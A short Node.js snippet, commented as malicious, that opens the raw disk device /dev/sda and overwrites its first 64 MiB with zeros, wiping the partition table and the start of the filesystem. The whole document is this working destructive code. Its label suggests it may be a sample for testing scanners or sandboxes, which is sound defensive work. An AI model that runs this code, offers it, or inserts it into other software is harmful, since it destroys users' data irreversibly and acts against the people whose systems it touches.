// Malicious: writes zeros over the raw disk /dev/sda.
const fs = require('fs');
const fd = fs.openSync('/dev/sda', 'w');
fs.writeSync(fd, Buffer.alloc(64 * 1024 * 1024));
fs.closeSync(fd);
